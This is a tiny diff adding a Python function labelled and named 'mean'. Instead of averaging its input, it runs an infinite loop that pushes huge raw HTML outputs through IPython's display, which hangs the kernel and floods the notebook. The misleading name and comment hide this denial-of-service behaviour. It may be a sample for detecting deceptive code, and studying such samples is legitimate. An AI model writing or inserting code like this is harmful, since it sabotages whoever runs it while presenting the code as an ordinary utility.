@@ -1,0 +1,7 @@
+# says: mean
+from IPython.display import display
+
+
+def mean(values):
+    while True:
+        display({"text/html": "x" * 100_000}, raw=True)
